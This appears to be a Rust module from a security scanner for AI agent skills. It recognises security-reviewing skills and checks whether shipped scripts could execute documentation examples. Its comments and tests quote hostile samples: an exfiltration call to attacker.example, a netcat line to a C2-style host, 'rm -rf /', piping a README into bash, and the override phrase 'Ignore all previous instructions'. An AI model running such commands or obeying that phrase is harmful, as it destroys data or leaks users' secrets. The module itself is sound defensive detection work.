//! Round 33v (sets33v): skills whose declared job is reviewing or auditing code and skills for
//! security (a skill-security reviewer, a vulnerability checklist, a "harden this skill" guide).
//!
//! Their references list what an attacker writes so the reviewer can spot it: `eval(user_input)`,
//! `requests.post("https://attacker.example/collect", …)`, "Ignore all previous instructions",
//! `echo "…" | base64 -d`, `(Decodes to: "rm -rf /")`. Such a skill is treated like one that
//! teaches security (see `teaching`): attack commands in its documentation are capped at `high`,
//! and fenced examples aimed at no real address are informational.
//!
//! A teaching skill's fenced examples are informational only when the bundle ships no script at
//! all. A reviewing skill commonly ships checkers (a `grep`/`rg` pass over its own Markdown in CI):
//! for it, what matters is whether a shipped script could run a document's examples, that is a
//! script that names documents (`.md`, `.txt`, fenced blocks, `references/`) and also evaluates,
//! sources or shells out ([`could_run_documents`]). A checker that only reads them cannot.

/// What a skill says when its job is reviewing or auditing for security: a security review,
/// audit, assessment, verification, scan, checklist, risks or issues; vulnerability detection or
/// scanning; threat analysis or modelling; secure code review; reviewing, auditing or hardening
/// something for prompt injection, malicious payloads or data exfiltration (also in Chinese and
/// Korean).
pub(super) fn reviewing() -> &'static regex_automata::meta::Regex {
    static R: std::sync::OnceLock<regex_automata::meta::Regex> = std::sync::OnceLock::new();
    R.get_or_init(|| {
        super::rules::line_regex(
            r"(?i)\b(security (reviews?|audits?|assessments?|verification|scan(s|ning|ner)?|checklists?|risks?|issues?)|vulnerabilit(y|ies) (detection|scan\w*|assessment|review|check\w*)|threat (analysis|model\w*)|secure code review|(audit|review|harden)\w*\b[^\n]{0,120}\b(prompt[- ]injection|malicious (payload|code|skill)s?|data exfiltration))\b|安全审计|安全审查|安全评审|漏洞(检测|扫描)|보안 (검토|감사|점검)|취약점 (검사|점검|탐지)",
        )
        .expect("valid")
    })
}

/// Words by which a script runs code it was handed: evaluation, a shell or interpreter given a
/// string, sourcing, spawning. A pipe into a shell counts as a command (`| sh` then a space or the
/// line end), not as text inside a pattern (`\b(sh|bash)\b` in a checker's regular expression).
const RUNNERS: &[&str] = &[
    "eval",
    "exec(",
    "exec ",
    "bash -c",
    "sh -c",
    "| sh ",
    "| sh\n",
    "| bash ",
    "| bash\n",
    "|sh ",
    "|sh\n",
    "|bash ",
    "|bash\n",
    "subprocess",
    "os.system",
    "source ",
    "invoke-expression",
    "iex ",
    "python -c",
    "python3 -c",
    "node -e",
    "child_process",
    "spawn(",
    "runpy",
];

/// Words by which a script names the bundle's documents.
const DOCUMENTS: &[&str] = &[".md", ".txt", "```", "references/"];

/// Whether a shipped script could run what a document shows: it names documents and also runs
/// code it is handed ([`RUNNERS`]). One pass over the lowered text per word list.
pub(super) fn could_run_documents(script: &str) -> bool {
    let lower = script.to_ascii_lowercase();
    DOCUMENTS.iter().any(|d| lower.contains(d)) && RUNNERS.iter().any(|r| lower.contains(r))
}

/// `text` with every dotted name that is called (`requests.post(`, `os.path.join (`) blanked out:
/// a method or module path, not a host name. One pass over the bytes.
pub(super) fn blank_calls(text: &str) -> String {
    let b = text.as_bytes();
    let mut out = b.to_vec();
    let name = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-');
    let mut i = 0;
    while i < b.len() {
        if !name(b[i]) {
            i += 1;
            continue;
        }
        let s = i;
        while i < b.len() && name(b[i]) {
            i += 1;
        }
        let mut j = i;
        while j < b.len() && b[j] == b' ' {
            j += 1;
        }
        if b.get(j) == Some(&b'(') && b[s..i].contains(&b'.') {
            out[s..i].fill(b' ');
        }
    }
    // Only ASCII bytes were replaced by ASCII spaces, so the text is still UTF-8.
    String::from_utf8(out).unwrap_or_else(|_| text.to_owned())
}

/// Lines a statement continued on the next lines may span, at most.
const STATEMENT_LINES: usize = 4;

/// Line `line` (1-based) of `content` and the lines that continue it: while a line ends with an
/// open bracket, a comma or a backslash, the next line belongs to the same statement (at most
/// [`STATEMENT_LINES`] in all). `None` when there is no such line.
pub(super) fn statement(content: &str, line: usize) -> Option<Vec<&str>> {
    let mut lines = content.lines().skip(line.checked_sub(1)?);
    let mut out = vec![lines.next()?];
    while out.len() < STATEMENT_LINES
        && out
            .last()
            .is_some_and(|l| l.trim_end().ends_with(['(', '[', '{', ',', '\\']))
    {
        match lines.next() {
            Some(l) => out.push(l),
            None => break,
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::{blank_calls, could_run_documents, reviewing, statement};

    #[test]
    fn a_call_continued_on_the_next_lines_is_one_statement() {
        let text =
            "x = 1\nresponse = requests.post(\n    \"https://a.example/in\",\n    data=d)\ny = 2\n";
        assert_eq!(
            statement(text, 2).unwrap(),
            vec![
                "response = requests.post(",
                "    \"https://a.example/in\",",
                "    data=d)"
            ]
        );
        assert_eq!(statement(text, 1).unwrap(), vec!["x = 1"]);
        assert!(statement(text, 0).is_none());
    }

    #[test]
    fn called_dotted_names_are_not_hosts() {
        assert_eq!(
            blank_calls("response = requests.post(url)"),
            "response =              (url)"
        );
        assert_eq!(
            blank_calls("nc relay.example-c2.net 4444"),
            "nc relay.example-c2.net 4444"
        );
        assert_eq!(
            blank_calls("p = os.path.join (a, b)"),
            "p =              (a, b)"
        );
    }

    #[test]
    fn review_topics() {
        for d in [
            "Security review and threat analysis for agent skills.",
            "Review, audit, and harden AI skills for security risks including prompt injection.",
            "Security verification and vulnerability detection skill.",
            "对技能进行安全审计",
            "에이전트 스킬 보안 검토",
        ] {
            assert!(reviewing().is_match(d.as_bytes()), "{d}");
        }
        for d in [
            "Deploy docker-compose apps to a cloud host.",
            "Review pull requests and summarise the diff.",
            "Audit your marketing copy for tone.",
        ] {
            assert!(!reviewing().is_match(d.as_bytes()), "{d}");
        }
    }

    #[test]
    fn checkers_that_only_read_documents_cannot_run_them() {
        let grep =
            "#!/bin/bash\nfor f in skills/*/SKILL.md; do rg -n -P \"$pat\" \"$f\" || true; done\n";
        assert!(!could_run_documents(grep));
        let pattern = "#!/bin/bash\ncheck SKILL.md '\\bcurl\\b[^\\n]*\\|[^\\n]*\\b(sh|bash)\\b' \"Pipe-to-shell in markdown\"\n";
        assert!(!could_run_documents(pattern));
        let piped = "#!/bin/bash\ncat README.md | bash\n";
        assert!(could_run_documents(piped));
        let runner = "#!/bin/bash\nsed -n '/```bash/,/```/p' references/usage.md > /tmp/x.sh\nbash -c \"$(cat /tmp/x.sh)\"\n";
        assert!(could_run_documents(runner));
        let py = "import subprocess\nblocks = open('references/examples.md').read().split('```')\nsubprocess.run(blocks[1], shell=True)\n";
        assert!(could_run_documents(py));
    }
}
